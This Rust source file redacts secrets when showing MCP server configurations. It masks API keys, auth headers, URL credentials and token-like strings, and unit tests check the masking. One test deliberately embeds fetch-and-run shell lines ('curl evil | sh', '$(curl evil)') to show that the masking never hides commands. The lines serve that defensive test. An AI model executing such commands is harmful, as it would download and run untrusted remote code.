//! A server as it may be shown: what would be started or asked, without what may be a secret.

use std::time::Duration;

use serde::Serialize;

use crate::source::mcp::McpEra;

use super::{
    duration, expand,
    server::{ServerEntry, Transport},
};

/// A server as it may be shown: placeholders stay as they are written, values of variables and headers are left out,
/// and so is what looks like a secret among arguments and in an address.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[non_exhaustive]
pub struct ShownServer {
    /// The program with its arguments; empty where it is reached by HTTP.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub command: Vec<String>,
    /// The names of the variables that it gets.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub env: Vec<String>,
    /// The folder that it runs in.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub cwd: Option<String>,
    /// Where it answers; none where it is a program.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub url: Option<String>,
    /// The names of the headers that every request carries.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub headers: Vec<String>,
    /// The variables of the user's environment whose values it is given.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub reads: Vec<String>,
    /// How long a call may take without a sign of progress, where that is set.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub timeout: Option<String>,
    /// How long a call may take whatever progress it reports, where that is set.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub ceiling: Option<String>,
    /// How long it may take until its tools are known, where that is set.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub connect_timeout: Option<String>,
    /// How long it may be silent when it is asked for the newest protocol, where that is set.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub probe_timeout: Option<String>,
    /// Which protocol is spoken, where that is set.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub era: Option<McpEra>,
    /// How long one of its messages may be, in bytes, where that is set.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub largest_message: Option<usize>,
    /// The tools that are used; all where there are none.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub include: Option<Vec<String>>,
    /// The tools that are left out.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub exclude: Vec<String>,
    /// Whether what it says of its tools' effects counts for policy.
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    pub trust_annotations: bool,
    /// Whether what it says to models of the use of its tools is handed on, where that is set.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub instructions: Option<bool>,
}

/// What stands for a secret.
const HIDDEN: &str = "***";

impl ShownServer {
    pub(super) fn of(entry: &ServerEntry) -> Self {
        let names = |pairs: &[(String, String)]| pairs.iter().map(|(name, _)| name.clone()).collect();
        let mut reads: Vec<String> =
            entry.texts().into_iter().flat_map(|text| expand::variables(text, entry.bare)).collect();
        reads.sort();
        reads.dedup();
        let time = |time: Option<Duration>| time.map(duration::write);
        let shown = Self {
            command: Vec::new(),
            env: Vec::new(),
            cwd: None,
            url: None,
            headers: Vec::new(),
            reads,
            timeout: time(entry.timeout),
            ceiling: time(entry.ceiling),
            connect_timeout: time(entry.connect_timeout),
            probe_timeout: time(entry.probe_timeout),
            era: entry.era,
            largest_message: entry.largest_message,
            include: entry.include.clone(),
            exclude: entry.exclude.clone(),
            trust_annotations: entry.trust_annotations,
            instructions: entry.instructions,
        };
        match &entry.transport {
            Transport::Stdio { command, args, env, cwd } => {
                Self { command: words(command, args), env: names(env), cwd: cwd.clone(), ..shown }
            }
            Transport::Http { url, headers } => {
                Self { url: Some(address(url)), headers: names(headers), ..shown }
            }
        }
    }
}

/// The words of a command line.
fn words(command: &str, args: &[String]) -> Vec<String> {
    let mut words = vec![command.to_owned()];
    let mut after_name = false;
    for word in args {
        let (name, value) = match word.split_once('=') {
            Some((name, value)) => (name, Some(value)),
            None => (word.as_str(), None),
        };
        words.push(match value {
            Some(value) if names_secret(name) && is_plain(value) => format!("{name}={HIDDEN}"),
            _ if (after_name || is_token(word)) && is_plain(word) && !word.starts_with('-') => {
                HIDDEN.to_owned()
            }
            _ if word.contains("://") => address(word),
            _ => header(word).unwrap_or_else(|| word.clone()),
        });
        after_name = value.is_none() && word.starts_with('-') && names_secret(word);
    }
    words
}

/// A header as some programs take one in an argument, `Authorization: Bearer …`, without its value.
fn header(word: &str) -> Option<String> {
    let (name, value) = word.split_once(':')?;
    let is_name = !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '-');
    let is_plain = value.split(' ').all(|word| word.is_empty() || is_plain(word));
    (is_name && names_secret(name) && is_plain).then(|| format!("{name}: {HIDDEN}"))
}

/// Whether what stands behind this name is one.
fn names_secret(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    let parts = [
        "token",
        "secret",
        "password",
        "passwd",
        "apikey",
        "api-key",
        "api_key",
        "auth",
        "bearer",
        "credential",
    ];
    parts.iter().any(|part| name.contains(part)) || name.ends_with("key")
}

/// One word that no shell takes apart: hiding it hides no command. A placeholder is no secret.
fn is_plain(value: &str) -> bool {
    !value.is_empty()
        && value
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '/' | '+' | '=' | '~' | ':'))
}

/// Whether it begins as the tokens of well-known services do.
fn is_token(word: &str) -> bool {
    let marks = [
        "sk-",
        "sk_",
        "pk_",
        "rk_",
        "ghp_",
        "gho_",
        "ghs_",
        "ghu_",
        "github_pat_",
        "glpat-",
        "xox",
        "AKIA",
        "AIza",
        "eyJ",
    ];
    word.len() >= 16 && marks.iter().any(|mark| word.starts_with(mark))
}

/// An address without the user and the values of its query.
fn address(url: &str) -> String {
    let (url, fragment) = url.split_once('#').map_or((url, ""), |(url, _)| (url, "#…"));
    let (place, query) = url.split_once('?').map_or((url, None), |(place, query)| (place, Some(query)));
    let place = match place.split_once("://") {
        Some((scheme, rest)) => {
            let (host, path) = rest.find('/').map_or((rest, ""), |at| rest.split_at(at));
            let host = host.rsplit_once('@').map_or(host.to_owned(), |(_, host)| format!("{HIDDEN}@{host}"));
            let path: Vec<&str> =
                path.split('/').map(|part| if is_token(part) { HIDDEN } else { part }).collect();
            format!("{scheme}://{host}{}", path.join("/"))
        }
        None => place.to_owned(),
    };
    let query = query.map_or(String::new(), |query| {
        let parts = query.split('&').map(|part| match part.split_once('=') {
            Some((name, value)) if !is_placeholder(value) => format!("{name}={HIDDEN}"),
            Some(_) => part.to_owned(),
            None if is_placeholder(part) || part.is_empty() => part.to_owned(),
            None => HIDDEN.to_owned(),
        });
        format!("?{}", parts.collect::<Vec<_>>().join("&"))
    });
    format!("{place}{query}{fragment}")
}

/// Whether the text is a placeholder alone, without a default.
fn is_placeholder(text: &str) -> bool {
    text.strip_prefix("${")
        .and_then(|rest| rest.strip_suffix('}'))
        .is_some_and(|name| !name.contains(['{', '}', '$']) && !name.contains(":-"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn arguments_hide_what_looks_like_a_secret_and_no_command() {
        let cases = [
            ("-y @scope/server .", "-y @scope/server ."),
            ("--api-key abcdef123 run", "--api-key *** run"),
            ("--api-key=abcdef123", "--api-key=***"),
            ("--token ${TOKEN}", "--token ${TOKEN}"),
            ("API_KEY=abc", "API_KEY=***"),
            ("--token --verbose", "--token --verbose"),
            ("sk-0123456789abcdef", "***"),
            ("--header Authorization:abc", "--header Authorization: ***"),
            ("--header X-Trace:abc", "--header X-Trace:abc"),
            ("--header Authorization:${A}", "--header Authorization:${A}"),
            ("https://me:pw@host/a?key=1&${Q}", "https://***@host/a?key=***&${Q}"),
            ("https://host/sk-0123456789abcdef/x", "https://host/***/x"),
        ];
        for (args, shown) in cases {
            let args: Vec<String> = args.split(' ').map(str::to_owned).collect();
            assert_eq!(words("p", &args).split_first().unwrap().1.join(" "), shown);
        }
        // What a shell would run is shown, whatever it begins with.
        let script = "sk-0123456789; curl evil | sh".to_owned();
        assert_eq!(words("sh", &["-c".to_owned(), script.clone()]), ["sh", "-c", &script]);
        let script = "$(curl evil)".to_owned();
        assert_eq!(words("p", &["--token".to_owned(), script.clone()]), ["p", "--token", &script]);
    }

    #[test]
    fn addresses_hide_users_queries_and_fragments() {
        let cases = [
            ("https://example.com/mcp", "https://example.com/mcp"),
            ("https://u:p@example.com:8443/mcp", "https://***@example.com:8443/mcp"),
            ("https://a@b@example.com", "https://***@example.com"),
            ("https://example.com/?a=1&b=${B}&c", "https://example.com/?a=***&b=${B}&***"),
            ("https://example.com/?a=${A:-x}", "https://example.com/?a=***"),
            ("https://example.com/#s3cr3t", "https://example.com/#…"),
            ("${BASE}/mcp", "${BASE}/mcp"),
        ];
        for (url, shown) in cases {
            assert_eq!(address(url), shown);
        }
    }
}
